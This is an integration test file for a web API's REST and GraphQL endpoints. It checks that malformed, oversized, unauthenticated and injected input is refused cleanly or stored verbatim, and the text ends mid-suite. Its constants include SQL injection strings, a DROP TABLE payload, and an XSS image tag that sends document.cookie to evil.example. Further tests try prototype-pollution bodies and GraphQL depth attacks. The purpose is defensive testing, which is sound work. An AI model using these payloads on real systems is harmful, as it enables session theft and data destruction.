import sharp from 'sharp';
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { bootApp, TestApp } from './helpers/test-app';
import { ApiClient, GqlResponse, RestResponse } from './helpers/api-client';
import { expectGqlError, expectRestError, expectSafeMessage } from './helpers/safe-error';
import { createAdmin, createInvestor, DEFAULT_PASSWORD, uniqueEmail } from './factories/users';
import { stepUp } from './factories/step-up';

/**
 * Whatever a caller sends, the answer is a 4xx with the API's error shape and a plain message
 * (no stack, SQL or paths), and the database is as it was.
 */

const SQL = "' OR 1=1 --";
const SQL_DROP = "x'); DROP TABLE users; --";
const HTML = '<script>alert(1)</script>';
const HTML_IMG = '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">';
/** Both at once, for the loops that try every field. */
const SQL_AND_HTML = `${SQL_DROP}${HTML}`;
/** Text Postgres refuses to store: a NUL character, and a lone UTF-16 surrogate (no UTF-8 form). */
const NUL = 'a\u0000b';
const LONE_SURROGATE = 'a\ud800b';
/** Ids that are not uuids; 36 dashes passed the old `/^[0-9a-f-]{36}$/` check and reached Postgres. */
const BAD_IDS = ['-'.repeat(36), 'not-a-uuid', '0000000g-0000-4000-8000-000000000000', '00000000-0000-4000-8000-0000000000000', `${SQL}`, 'a\u0000b'];
/** A well-formed id that is nobody's. */
const NOBODYS_ID = '00000000-0000-4000-8000-000000000000';
const cursorOf = (text: string) => Buffer.from(text).toString('base64url');
const BAD_CURSORS = [
  'garbage',
  cursorOf(`2020-01-01T00:00:00.000Z|${'-'.repeat(36)}`),
  cursorOf(`1|${NOBODYS_ID}`),
  cursorOf(`99999-01-01T00:00:00.000Z|${NOBODYS_ID}`),
  cursorOf(`2020-01-01T00:00:00.000Z|${NOBODYS_ID}\u0000`),
  cursorOf('|'),
];

let serial = 0;
const uname = () => `bad_${Date.now().toString(36)}${serial++}`;

type Caller = 'anonymous' | 'investor' | 'admin';
interface RestEndpoint {
  name: string;
  path: string;
  as: Caller;
  /** A body that passes the validation pipe (the cases break one thing at a time). */
  body: () => Record<string, unknown>;
  /** The fields that must be strings. */
  strings: string[];
}

const ENDPOINTS: RestEndpoint[] = [
  {
    name: 'account/register',
    path: '/api/account/register',
    as: 'anonymous',
    body: () => ({ fullName: 'Eve Example', username: uname(), email: uniqueEmail('eve'), password: 'correct horse battery', referralId: '' }),
    strings: ['fullName', 'username', 'email', 'password', 'referralId'],
  },
  {
    name: 'account/login',
    path: '/api/account/login',
    as: 'anonymous',
    body: () => ({ email: 'nobody@example.com', password: 'not the password' }),
    strings: ['email', 'password'],
  },
  {
    name: 'update/profile',
    path: '/api/update/profile',
    as: 'investor',
    body: () => ({ fullname: 'Eve Example', username: uname(), phone: '5550100', telegram: '@eve', gender: 'Female', date_of_birth: '1990-01-01' }),
    strings: ['fullname', 'username', 'phone', 'telegram', 'gender', 'date_of_birth'],
  },
  {
    name: 'update/address',
    path: '/api/update/address',
    as: 'investor',
    body: () => ({ address1: '1 Main St', address2: 'Flat 2', city: 'Lagos', state: 'Lagos', zipcode: '100001', country: 'Nigeria', nationality: 'Nigerian' }),
    strings: ['address1', 'address2', 'city', 'state', 'zipcode', 'country', 'nationality'],
  },
  {
    name: 'contact_us',
    path: '/api/contact_us',
    as: 'anonymous',
    body: () => ({ fullname: 'Eve Example', email: 'eve@example.com', subject: 'Enquiry', message: 'Hello there', captcha: '7' }),
    strings: ['fullname', 'email', 'subject', 'message', 'captcha'],
  },
  {
    name: 'account/forgot_password',
    path: '/api/account/forgot_password',
    as: 'anonymous',
    body: () => ({ email: 'nobody@example.com' }),
    strings: ['email'],
  },
  {
    name: 'account/reset_password',
    path: '/api/account/reset_password',
    as: 'anonymous',
    body: () => ({ token: 'not-a-real-token', password: 'a new passphrase' }),
    strings: ['token', 'password'],
  },
  {
    name: 'account/login/two_factor',
    path: '/api/account/login/two_factor',
    as: 'anonymous',
    body: () => ({ code: '123456' }),
    strings: ['code'],
  },
  {
    name: 'insert/send_change_email_otp',
    path: '/api/insert/send_change_email_otp',
    as: 'investor',
    // Not the investor's current address: even the well-formed body is refused, and mails nothing.
    body: () => ({
      current_email: 'someone.else@example.com',
      new_email: 'new.address@example.com',
      confirm_email: 'new.address@example.com',
      two_factor_code: '123456',
    }),
    strings: ['current_email', 'new_email', 'confirm_email', 'two_factor_code'],
  },
  {
    name: 'insert/verify_change_email_otp',
    path: '/api/insert/verify_change_email_otp',
    as: 'investor',
    body: () => ({ code: '123456' }),
    strings: ['code'],
  },
];

const WRONG_TYPES: Array<[string, unknown]> = [
  ['a number', 42],
  ['an array', ['x']],
  ['an object', { $ne: null }],
];

describe('bad input is refused cleanly (REST and GraphQL, real Postgres)', () => {
  let t: TestApp;
  let anonymous: ApiClient;
  let investor: { client: ApiClient; email: string; user: { id: string } };
  let admin: ApiClient;

  beforeAll(async () => {
    t = await bootApp();
    anonymous = t.client();
    await anonymous.fetchCsrf();
    investor = await createInvestor(t);
    // With a confirmed password, so that the step-up calls (email change, 2FA) reach their input checks.
    await stepUp(investor.client);
    admin = (await createAdmin(t)).client;
  });
  afterAll(() => t.close());

  const clientFor = (as: Caller) => (as === 'anonymous' ? anonymous : as === 'admin' ? admin : investor.client);

  /** Row counts of the tables a request could write, and the investor's own row. */
  async function snapshot() {
    const { rows } = await t.db.query(
      `SELECT
        (SELECT count(*)::int FROM users) AS users,
        (SELECT count(*)::int FROM contact_messages) AS contact_messages,
        (SELECT count(*)::int FROM mail_outbox) AS mail_outbox,
        (SELECT count(*)::int FROM password_reset_tokens) AS reset_tokens,
        (SELECT max(updated_at) FROM users) AS last_user_update,
        (SELECT md5(string_agg(key || locale || value::text, ',' ORDER BY key, locale)) FROM site_content) AS site_content,
        (SELECT md5(string_agg(id || status || amount::text, ',' ORDER BY id)) FROM transactions) AS transactions,
        (SELECT count(*)::int FROM kyc_requests) AS kyc_requests,
        (SELECT row_to_json(u) FROM users u WHERE id = $1) AS me`,
      [investor.user.id],
    );
    return rows[0];
  }

  async function expectRefusedAndUnchanged(call: () => Promise<RestResponse>, status?: number): Promise<RestResponse> {
    const before = await snapshot();
    const res = await call();
    expectRestError(res, status);
    expect(await snapshot()).toEqual(before);
    return res;
  }

  const postRaw = (client: ApiClient, path: string, body: string, contentType = 'application/json') =>
    client.post(path, body, { headers: { 'content-type': contentType } });

  describe.each(ENDPOINTS.map((e) => [e.name, e] as const))('POST %s', (name, endpoint) => {
    const post = (body: unknown, init?: RequestInit & { csrf?: boolean }) => clientFor(endpoint.as).post(endpoint.path, body as object, init);

    it.each([
      ['an empty body', () => '', undefined],
      ['an empty object', () => '{}', undefined],
      ['malformed JSON', () => '{bad', 'The request body is not valid JSON.'],
      ['truncated JSON', () => '{"a":', 'The request body is not valid JSON.'],
      ['JSON null', () => 'null', 'The request body is not valid JSON.'],
      ['a JSON string', () => '"a string"', 'The request body is not valid JSON.'],
      ['an empty JSON array', () => '[]', undefined],
      ['the valid body inside an array', () => JSON.stringify([endpoint.body()]), undefined],
    ])('refuses %s (400)', async (_label, raw, message) => {
      const res = await expectRefusedAndUnchanged(() => postRaw(clientFor(endpoint.as), endpoint.path, raw()), 400);
      if (message) expect(res.body.message).toBe(message);
    });

    it('refuses the valid body sent as text/plain or form data (400)', async () => {
      const before = await snapshot();
      expectRestError(await postRaw(clientFor(endpoint.as), endpoint.path, JSON.stringify(endpoint.body()), 'text/plain'), 400);
      const form = new FormData();
      for (const [key, value] of Object.entries(endpoint.body())) form.set(key, String(value));
      expectRestError(await clientFor(endpoint.as).post(endpoint.path, form), 400);
      expect(await snapshot()).toEqual(before);
    });

    it('refuses a body over 100 KB (413)', async () => {
      const big = { ...endpoint.body(), [endpoint.strings[0]]: 'x'.repeat(101 * 1024) };
      const res = await expectRefusedAndUnchanged(() => post(big), 413);
      expect(res.body.message).toBe('The request is too large.');
    });

    for (const field of endpoint.strings) {
      it(`refuses ${field} as ${WRONG_TYPES.map(([typeName]) => typeName).join(', ')} (4xx)`, async () => {
        const before = await snapshot();
        for (const [, value] of WRONG_TYPES) expectRestError(await post({ ...endpoint.body(), [field]: value }));
        expect(await snapshot()).toEqual(before);
      });
    }

    it('refuses a value nested 10000 levels deep (4xx)', async () => {
      const deep = '{"a":'.repeat(10000) + '1' + '}'.repeat(10000);
      const json = JSON.stringify({ ...endpoint.body(), [endpoint.strings[0]]: '__DEEP__' }).replace('"__DEEP__"', deep);
      expect(json.length).toBeLessThan(100 * 1024);
      await expectRefusedAndUnchanged(() => postRaw(clientFor(endpoint.as), endpoint.path, json));
    });

    it('refuses an unknown field (400 "property … should not exist")', async () => {
      const res = await expectRefusedAndUnchanged(() => post({ ...endpoint.body(), hacker: 'x' }), 400);
      expect(res.body.message).toBe('property hacker should not exist');
    });

    it('refuses a call without the CSRF token (403)', async () => {
      const res = await expectRefusedAndUnchanged(() => post(endpoint.body(), { csrf: false }), 403);
      expect(res.body.code).toBe('CSRF');
      await expectRefusedAndUnchanged(() => post(endpoint.body(), { csrf: false, headers: { 'x-csrf-token': '' } }), 403);
    });

    it('never fails on SQL or HTML in any text field (stored verbatim or refused, never a 500)', async () => {
      for (const field of endpoint.strings) {
        const res = await post({ ...endpoint.body(), [field]: SQL_AND_HTML });
        expect(res.status).toBeLessThan(500);
        expect(res.headers.get('content-type')).toMatch(/application\/json/);
        if (res.status >= 400) expectRestError(res);
      }
      // the tables are still there
      expect((await t.db.query(`SELECT count(*)::int AS n FROM users`)).rows[0].n).toBeGreaterThan(0);
    });

    it('refuses a NUL character or a lone surrogate in any text field (400 BAD_USER_INPUT, nothing changed)', async () => {
      for (const field of endpoint.strings) {
        for (const text of [NUL, LONE_SURROGATE]) {
          const res = await expectRefusedAndUnchanged(() => post({ ...endpoint.body(), [field]: text }), 400);
          expect(res.body).toEqual({
            status: 'error',
            code: 'BAD_USER_INPUT',
            message: `"${field}" contains a character that is not allowed (a NUL character or invalid Unicode).`,
          });
        }
      }
    });
  });

  describe('injection text is data', () => {
    it('register stores SQL and HTML in the full name verbatim; the password may hold them too', async () => {
      for (const fullName of [SQL_DROP, HTML_IMG]) {
        const email = uniqueEmail('inj');
        const password = `${SQL} ${HTML}`;
        const client = t.client();
        expect((await client.register({ email, fullName, password })).status).toBe(200);
        const row = await t.db.query(`SELECT fullname FROM users WHERE email = $1`, [email]);
        expect(row.rows).toEqual([{ fullname: fullName }]);
        const login = await client.login(email, password);
        expect(login.status).toBe(200);
        expect(login.body.data.fullname).toBe(fullName);
      }
    });

    it('register refuses SQL and HTML as a username or an email, and creates no user', async () => {
      for (const text of [SQL, HTML]) {
        const before = await snapshot();
        const byName = await anonymous.post('/api/account/register', { fullName: 'Eve', username: text, email: uniqueEmail(), password: DEFAULT_PASSWORD });
        expectRestError(byName, 400);
        expect(byName.body.message).toContain('Username must be');
        const byEmail = await anonymous.post('/api/account/register', { fullName: 'Eve', username: uname(), email: text, password: DEFAULT_PASSWORD });
        expectRestError(byEmail, 400);
        expect(byEmail.body.message).toBe('Please enter a valid email address.');
        expect(await snapshot()).toEqual(before);
      }
    });

    it('login with SQL as email or password is an ordinary wrong sign-in (401) and signs nobody in', async () => {
      const client = t.client();
      await client.fetchCsrf();
      for (const [email, password] of [
        [SQL, 'whatever password'],
        [`${investor.email}' --`, 'whatever password'],
        [investor.email, SQL],
        [investor.email, "' OR '1'='1"],
      ]) {
        const res = await client.post('/api/account/login', { email, password });
        expectRestError(res, 401);
        expect(res.body.message).toBe('Invalid email or password.');
      }
      expectRestError(await client.get('/api/check-auth'), 401);
    });

    // Known bug (auth, reported): the login guard signs in before the validation pipe refuses the body.
    it('login with an unknown field is refused and signs nobody in', async () => {
      const { email } = await createInvestor(t);
      const client = t.client();
      await client.fetchCsrf();
      const res = await client.post('/api/account/login', { email, password: DEFAULT_PASSWORD, hacker: 'x' });
      expectRestError(res, 400);
      expectRestError(await client.get('/api/check-auth'), 401);
    });

    it('profile and address store SQL and HTML verbatim in free-text fields and refuse them where a format applies', async () => {
      const { client, user } = await createInvestor(t);
      const profile = await client.post('/api/update/profile', { fullname: HTML_IMG, username: uname(), phone: '5550100', telegram: SQL_DROP });
      expect(profile.status).toBe(200);
      const address = await client.post('/api/update/address', { address1: SQL, address2: HTML, city: SQL_DROP, state: HTML_IMG, country: `${HTML}${SQL}` });
      expect(address.status).toBe(200);
      const row = await t.db.query(`SELECT fullname, telegram, address1, address2, city, state, country FROM users WHERE id = $1`, [user.id]);
      expect(row.rows[0]).toEqual({
        fullname: HTML_IMG,
        telegram: SQL_DROP,
        address1: SQL,
        address2: HTML,
        city: SQL_DROP,
        state: HTML_IMG,
        country: `${HTML}${SQL}`,
      });
      // answered as JSON data, exactly as stored
      const me = await client.get<{ data: Record<string, string> }>('/api/check-auth');
      expect(me.headers.get('content-type')).toMatch(/application\/json/);
      expect(me.body.data).toMatchObject({ fullname: HTML_IMG, address1: SQL, address2: HTML });

      for (const patch of [{ username: SQL }, { username: HTML }, { phone: SQL }, { phone: HTML }, { gender: SQL }, { date_of_birth: SQL }]) {
        const before = await t.db.query(`SELECT * FROM users WHERE id = $1`, [user.id]);
        const res = await client.post('/api/update/profile', { fullname: 'Eve', username: uname(), phone: '5550100', ...patch });
        expectRestError(res, 400);
        expect((await t.db.query(`SELECT * FROM users WHERE id = $1`, [user.id])).rows).toEqual(before.rows);
      }
    });

    it('contact_us stores SQL and HTML verbatim in the message and in the mail to support', async () => {
      const client = t.client();
      await client.fetchCsrf();
      const question = (await client.get<{ question: string }>('/api/account/captcha')).body.question;
      const [, a, b] = /What is (\d) \+ (\d)\?/.exec(question)!;
      const email = uniqueEmail('inj');
      const message = `${SQL}\n${SQL_DROP}\n${HTML}\n${HTML_IMG}`;
      const res = await client.post('/api/contact_us', { fullname: HTML, email, subject: 'Other Issues', message, captcha: String(+a + +b) });
      expect(res.body).toEqual({ status: 'success', message: 'Your message has been sent successfully' });
      const stored = await t.db.query(`SELECT fullname, message FROM contact_messages WHERE email = $1`, [email]);
      expect(stored.rows).toEqual([{ fullname: HTML, message }]);
      const mail = await t.db.query(`SELECT text FROM mail_outbox WHERE reply_to = $1`, [email]);
      expect(mail.rows[0].text).toContain(message);
    });

    it('forgot_password and reset_password refuse SQL and HTML without touching tokens or users', async () => {
      for (const text of [SQL, SQL_DROP, HTML]) {
        const forgot = await expectRefusedAndUnchanged(() => anonymous.post('/api/account/forgot_password', { email: text }), 400);
        expect(forgot.body.message).toBe('Please enter a valid email address.');
        const reset = await expectRefusedAndUnchanged(() => anonymous.post('/api/account/reset_password', { token: text, password: 'a new passphrase' }), 400);
        expect(reset.body.message).toContain('invalid or has expired');
      }
    });

    it('a __proto__ or constructor key grants nothing and pollutes nothing', async () => {
      for (const key of ['__proto__', 'constructor']) {
        const email = uniqueEmail('proto');
        const body = `{"${key}":{"isAdmin":true,"is_admin":true,"admin":1,"prototype":{"isAdmin":true}},"fullName":"Eve","username":"${uname()}","email":"${email}","password":"${DEFAULT_PASSWORD}"}`;
        const res = await postRaw(anonymous, '/api/account/register', body);
        expect(res.status).toBeLessThan(500);
        if (res.status >= 400) expectRestError(res);
        const row = await t.db.query(`SELECT is_admin FROM users WHERE email = $1`, [email]);
        expect(row.rows.every((r) => r.is_admin === false)).toBe(true);
      }
      expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
      expect(({} as Record<string, unknown>).admin).toBeUndefined();
    });
  });

  describe('expired sessions', () => {
    const SIGNED_IN_CALLS: Array<[string, (c: ApiClient) => Promise<RestResponse>]> = [
      ['GET check-auth', (c) => c.get('/api/check-auth')],
      ['POST update/profile', (c) => c.post('/api/update/profile', { fullname: 'Eve', username: uname(), phone: '5550100' })],
      ['POST update/address', (c) => c.post('/api/update/address', { address1: 'a', state: 'b', country: 'c' })],
      ['GET upload/delete-avatar', (c) => c.get('/api/upload/delete-avatar')],
      ['GET account/logout', (c) => c.get('/api/account/logout')],
    ];

    it.each([
      ['deleted', `DELETE FROM sessions WHERE sess->'passport'->>'user' = $1`],
      ['past its expiry', `UPDATE sessions SET expire = now() - interval '1 minute' WHERE sess->'passport'->>'user' = $1`],
    ])('answers 401 on every signed-in call when the session row is %s', async (_how, sql) => {
      const { client, user } = await createInvestor(t);
      await client.post('/api/update/address', { address1: 'Before', state: 'b', country: 'c' });
      const before = await t.db.query(`SELECT * FROM users WHERE id = $1`, [user.id]);
      expect((await t.db.query(sql, [user.id])).rowCount).toBe(1);

      for (const [, call] of SIGNED_IN_CALLS) {
        const res = await call(client);
        expectRestError(res, 401);
        expect(res.body.code).toBe('UNAUTHENTICATED');
      }
      const form = new FormData();
      form.set(
        'avatar',
        new Blob(
          [
            await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
              .png()
              .toBuffer(),
          ],
          { type: 'image/png' },
        ),
        'a.png',
      );
      expectRestError(await client.post('/api/upload/avatar', form), 401);
      expect((await client.gql(`{ me { id } }`)).data).toEqual({ me: null });
      expectGqlError(
        await client.gql(`mutation($i: UpdateAddressInput!) { updateAddress(input: $i) { id } }`, { i: { address1: 'After', state: 'b', country: 'c' } }),
        'UNAUTHENTICATED',
      );
      expect((await t.db.query(`SELECT * FROM users WHERE id = $1`, [user.id])).rows).toEqual(before.rows);
    });
  });

  describe('GraphQL', () => {
    const post = (client: ApiClient, body: string, headers: Record<string, string> = {}) =>
      client.raw('/graphql', { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body });

    async function gqlJson(res: Response): Promise<GqlResponse> {
      const text = await res.text();
      expect(res.headers.get('content-type')).toMatch(/application\/(graphql-response\+)?json/);
      return { status: res.status, ...(JSON.parse(text) as Omit<GqlResponse, 'status'>) };
    }

    async function expectGqlRefusedAndUnchanged(call: () => Promise<Parameters<typeof expectGqlError>[0]>, code?: string | RegExp, status?: number) {
      const before = await snapshot();
      const res = await call();
      expectGqlError(res, code);
      if (status !== undefined) expect(res.status).toBe(status);
      expect(res.data ?? null).toBeNull();
      expect(await snapshot()).toEqual(before);
      return res;
    }

    const MUTATIONS: Array<{ name: string; as: Caller; query: string; input: () => Record<string, unknown>; wrap?: boolean }> = [
      {
        name: 'register',
        as: 'anonymous',
        query: `mutation($input: RegisterInput!) { register(input: $input) { message } }`,
        input: () => ({ fullName: 'Eve', username: uname(), email: uniqueEmail('gql'), password: DEFAULT_PASSWORD }),
      },
      {
        name: 'login',
        as: 'anonymous',
        query: `mutation($input: LoginInput!) { login(input: $input) { id } }`,
        input: () => ({ email: 'nobody@example.com', password: 'not the password' }),
      },
      {
        name: 'updateProfile',
        as: 'investor',
        query: `mutation($input: UpdateProfileInput!) { updateProfile(input: $input) { id } }`,
        input: () => ({ fullname: 'Eve', username: uname(), phone: '5550100', gender: 'FEMALE' }),
      },
      {
        name: 'updateAddress',
        as: 'investor',
        query: `mutation($input: UpdateAddressInput!) { updateAddress(input: $input) { id } }`,
        input: () => ({ address1: '1 Main St', state: 'Lagos', country: 'Nigeria' }),
      },
      {
        name: 'contactUs',
        as: 'anonymous',
        query: `mutation($input: ContactInput!) { contactUs(input: $input) { message } }`,
        input: () => ({ fullname: 'Eve', email: 'eve@example.com', subject: 'Enquiry', message: 'Hello', captcha: '7' }),
      },
      {
        name: 'updateSiteContent',
        as: 'admin',
        query: `mutation($input: UpdateSiteContentInput!) { updateSiteContent(input: $input) { locale } }`,
        input: () => ({ key: 'riskWarning', locale: 'en', value: '"Capital at risk."' }),
      },
      {
        name: 'requestPasswordReset',
        as: 'anonymous',
        query: `mutation($input: String!) { requestPasswordReset(email: $input) { message } }`,
        input: () => ({ value: 'nobody@example.com' }),
        wrap: false,
      },
      {
        name: 'resetPassword',
        as: 'anonymous',
        query: `mutation($input: String!) { resetPassword(token: $input, password: "a new passphrase") { message } }`,
        input: () => ({ value: 'not-a-real-token' }),
        wrap: false,
      },
      ...(
        [
          ['verifyTwoFactorLogin', 'anonymous', `mutation($input: String!) { verifyTwoFactorLogin(code: $input) { id } }`, '123456'],
          ['enableTwoFactor', 'investor', `mutation($input: String!) { enableTwoFactor(code: $input) }`, '123456'],
          ['disableTwoFactor', 'investor', `mutation($input: String!) { disableTwoFactor(code: $input) }`, '123456'],
          [
            'changePassword',
            'investor',
            `mutation($input: String!) { changePassword(currentPassword: $input, newPassword: "a brand new passphrase") { revokedApiTokens } }`,
            'not my password',
          ],
          [
            'requestEmailChange',
            'investor',
            `mutation($input: String!) { requestEmailChange(newEmail: $input, twoFactorCode: "123456") }`,
            'someone.new@example.com',
          ],
          ['confirmEmailChange', 'investor', `mutation($input: String!) { confirmEmailChange(code: $input) { id } }`, '123456'],
        ] as const
      ).map(([name, as, query, value]) => ({ name, as: as as Caller, query, input: () => ({ value }), wrap: false })),
    ];

    describe.each(MUTATIONS.map((m) => [m.name, m] as const))('mutation %s', (_name, m) => {
      const variables = (input: Record<string, unknown>) => ({ input: m.wrap === false ? input.value : input });
      const firstKey = () => Object.keys(m.input())[0];

      it('refuses a number, an array or an object where a string is expected (400 BAD_USER_INPUT)', async () => {
        for (const [, value] of WRONG_TYPES) {
          await expectGqlRefusedAndUnchanged(() => clientFor(m.as).gql(m.query, variables({ ...m.input(), [firstKey()]: value })), 'BAD_USER_INPUT', 400);
        }
      });

      it('refuses a missing required value and null (400 BAD_USER_INPUT)', async () => {
        const { [firstKey()]: _dropped, ...rest } = m.input();
        if (m.wrap !== false) await expectGqlRefusedAndUnchanged(() => clientFor(m.as).gql(m.query, variables(rest)), 'BAD_USER_INPUT', 400);
        await expectGqlRefusedAndUnchanged(() => clientFor(m.as).gql(m.query, { input: null }), 'BAD_USER_INPUT', 400);
        await expectGqlRefusedAndUnchanged(() => clientFor(m.as).gql(m.query, {}), 'BAD_USER_INPUT', 400);
      });

      if (m.wrap !== false) {
        it('refuses an unknown input field (400 BAD_USER_INPUT)', async () => {
          const res = await expectGqlRefusedAndUnchanged(() => clientFor(m.as).gql(m.query, variables({ ...m.input(), isAdmin: true })), 'BAD_USER_INPUT', 400);
          expect(res.errors![0].message).toContain('Field "isAdmin" is not defined');
        });
      }

      it('refuses the mutation without the CSRF token (FORBIDDEN)', async () => {
        const res = await expectGqlRefusedAndUnchanged(() => clientFor(m.as).gql(m.query, variables(m.input()), { csrf: false }), 'FORBIDDEN');
        expect(res.errors![0].extensions?.reason).toBe('CSRF');
      });

      it('never fails on SQL or HTML in the first text field', async () => {
        const res = await clientFor(m.as).gql(m.query, variables({ ...m.input(), [firstKey()]: SQL_AND_HTML }));
        expect(res.status).toBeLessThan(500);
        if (res.errors) expectGqlError(res);
      });

      it('refuses a NUL character or a lone surrogate in every text field (400 BAD_USER_INPUT, nothing changed)', async () => {
        const fields = Object.entries(m.input())
          .filter(([, value]) => typeof value === 'string')
          .map(([key]) => key);
        expect(fields.length).toBeGreaterThan(0);
        for (const field of fields) {
          for (const text of [NUL, LONE_SURROGATE]) {
            await expectGqlRefusedAndUnchanged(() => clientFor(m.as).gql(m.query, variables({ ...m.input(), [field]: text })), 'BAD_USER_INPUT', 400);
          }
        }
      });
    });

    it('refuses a syntax error (400 GRAPHQL_PARSE_FAILED)', async () => {
      for (const query of ['{ me { ', 'mutation { register(input: { fullName: "a" ) { message } }', '{ me { id } } }', 'query query query']) {
        await expectGqlRefusedAndUnchanged(() => anonymous.gql(query), 'GRAPHQL_PARSE_FAILED', 400);
      }
    });

    it('refuses unknown fields, arguments and input fields (400 GRAPHQL_VALIDATION_FAILED)', async () => {
      for (const query of [
        '{ me { passwordHash } }',
        '{ nope }',
        '{ me(id: "someone") { id } }',
        'mutation { updateAddress(input: { address1: "a", state: "b", country: "c", userId: "x" }) { id } }',
        'mutation { register(input: { fullName: 1, username: "u", email: "e", password: "p" }) { message } }',
        'mutation { dropUsers }',
      ]) {
        await expectGqlRefusedAndUnchanged(() => investor.client.gql(query), 'GRAPHQL_VALIDATION_FAILED', 400);
      }
    });

    it('refuses an empty body, a non-string query, batches, string variables and an unknown operation name (400)', async () => {
      for (const body of [
        '',
        '{}',
        '{"query":123}',
        '{"query":["{ me { id } }"]}',
        '[{"query":"{ me { id } }"},{"query":"{ me { id } }"}]',
        '{"query":"{ me { id } }","variables":"{}"}',
        '{"query":"query A { me { id } }","operationName":"B"}',
        '{"query":"query A { me { id } } query B { me { id } }"}',
      ]) {
        const res = await gqlJson(await post(anonymous, body));
        expect(res.status).toBe(400);
        expectGqlError(res);
      }
    });

    it('answers malformed JSON and a body over 100 KB before GraphQL, in the REST error shape (400, 413)', async () => {
      const before = await snapshot();
      const bad = await anonymous.post('/graphql', '{bad');
      expectRestError(bad, 400);
      expect(bad.body.message).toBe('The request body is not valid JSON.');
      const big = await anonymous.post('/graphql', {
        query: `mutation($input: ContactInput!) { contactUs(input: $input) { message } }`,
        variables: { input: { message: 'x'.repeat(101 * 1024) } },
      });
      expectRestError(big, 413);
      expect(big.body.message).toBe('The request is too large.');
      expect(await snapshot()).toEqual(before);
    });

    it('refuses a mutation over GET, with or without the preflight header, and runs nothing', async () => {
      const query = encodeURIComponent(`mutation { requestPasswordReset(email: "${investor.email}") { message } }`);
      const variants: Array<Record<string, string>> = [
        {},
        { 'apollo-require-preflight': 'true' },
        { 'content-type': 'application/json', 'x-csrf-token': investor.client.csrfToken! },
      ];
      for (const headers of variants) {
        const before = await snapshot();
        const res = await gqlJson(await investor.client.raw(`/graphql?query=${query}`, { headers }));
        expect([400, 405]).toContain(res.status);
        expectGqlError(res);
        expect(res.data ?? null).toBeNull();
        expect(await snapshot()).toEqual(before);
      }
      // a query over GET with the preflight header is fine
      const ok = await gqlJson(
        await anonymous.raw(`/graphql?query=${encodeURIComponent('{ me { id } }')}`, { headers: { 'apollo-require-preflight': 'true' } }),
      );
      expect(ok).toMatchObject({ status: 200, data: { me: null } });
    });

    it('allows a query 11 levels deep and refuses 12 (GRAPHQL_VALIDATION_FAILED), also through fragments', async () => {
      const nested = (levels: number) => {
        // levels count fields from the root: __type is 1, fields 2, type 3, then ofType … down to `name`
        let inner = 'name';
        for (let i = 0; i < levels - 4; i++) inner = `ofType { ${inner} }`;
        return `{ __type(name: "User") { fields { type { ${inner} } } } }`;
      };
      const ok = await anonymous.gql<{ __type: { fields: unknown[] } }>(nested(11));
      expect(ok.errors).toBeUndefined();
      expect(ok.data?.__type.fields.length).toBeGreaterThan(0);

      for (const levels of [12, 30]) {
        const res = await expectGqlRefusedAndUnchanged(() => anonymous.gql(nested(levels)), 'GRAPHQL_VALIDATION_FAILED', 400);
        expect(res.errors!.map((error) => error.message)).toContain('The query is nested deeper than 11 levels.');
      }

      const fragments =
        `query { __type(name: "User") { ...T0 } } ` +
        Array.from({ length: 12 }, (_, i) => `fragment T${i} on __Type { ofType { name ${i < 11 ? `...T${i + 1}` : ''} } }`).join(' ');
      const viaFragments = await expectGqlRefusedAndUnchanged(() => anonymous.gql(fragments), 'GRAPHQL_VALIDATION_FAILED', 400);
      expect(viaFragments.errors!.map((error) => error.message)).toContain('The query is nested deeper than 11 levels.');

      const cycle = `query { me { ...A } } fragment A on User { id ...B } fragment B on User { email ...A }`;
      await expectGqlRefusedAndUnchanged(() => anonymous.gql(cycle), 'GRAPHQL_VALIDATION_FAILED', 400);
    });

    it('refuses a query that asks for a field a thousand times (cost limit)', async () => {
      const query = `{ ${Array.from({ length: 1000 }, (_, i) => `a${i}: me { id }`).join(' ')} }`;
      // 5,000 tokens: refused by the parser's token limit before the alias and cost limits are reached
      await expectGqlRefusedAndUnchanged(() => anonymous.gql(query), /GRAPHQL_PARSE_FAILED|GRAPHQL_VALIDATION_FAILED/);
    });

    it('refuses a multipart upload without the apollo-require-preflight header (CSRF prevention) and stores nothing', async () => {
      const { client, user } = await createInvestor(t);
      const avatars = join(t.config.uploadDir, 'avatars');
      const files = existsSync(avatars) ? readdirSync(avatars) : [];
      const png = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#f00' } })
        .png()
        .toBuffer();
      const form = new FormData();
      form.set('operations', JSON.stringify({ query: 'mutation($a: Upload!) { uploadAvatar(avatar: $a) { avatar } }', variables: { a: null } }));
      form.set('map', JSON.stringify({ '0': ['variables.a'] }));
      form.set('0', new Blob([png], { type: 'image/png' }), 'a.png');

      const res = await gqlJson(await client.raw('/graphql', { method: 'POST', body: form }));
      expect(res.status).toBe(400);
      expectGqlError(res);
      expect(res.errors![0].message).toContain('Cross-Site Request Forgery');
      expect(res.data ?? null).toBeNull();
      expect((await t.db.query(`SELECT avatar FROM users WHERE id = $1`, [user.id])).rows[0].avatar).toBeNull();
      expect(existsSync(avatars) ? readdirSync(avatars) : []).toEqual(files);

      // a text/plain "simple request" is blocked the same way
      const plain = await gqlJson(
        await client.raw('/graphql', {
          method: 'POST',
          headers: { 'content-type': 'text/plain' },
          body: JSON.stringify({ query: 'mutation { deleteAvatar { id } }' }),
        }),
      );
      expect(plain.status).toBe(400);
      expectGqlError(plain);
    });

    it('stores SQL and HTML sent through GraphQL verbatim', async () => {
      const { client, user } = await createInvestor(t);
      const res = await client.gql(`mutation($input: UpdateAddressInput!) { updateAddress(input: $input) { address1 city } }`, {
        input: { address1: SQL_DROP, city: HTML_IMG, state: SQL, country: HTML },
      });
      expect(res.errors).toBeUndefined();
      expect(res.data).toEqual({ updateAddress: { address1: SQL_DROP, city: HTML_IMG } });
      const row = await t.db.query(`SELECT address1, city, state, country FROM users WHERE id = $1`, [user.id]);
      expect(row.rows[0]).toEqual({ address1: SQL_DROP, city: HTML_IMG, state: SQL, country: HTML });
    });
  });

  describe('text Postgres refuses, malformed ids and cursors: 400 at the edge, never a 500', () => {
    const INVALID_TEXT = /contains a character that is not allowed \(a NUL character or invalid Unicode\)\.$/;
    const q = encodeURIComponent;

    /** Refused at the edge: HTTP 400. A resolver's refusal (`status` 200) is an ordinary GraphQL error, as everywhere in the API. */
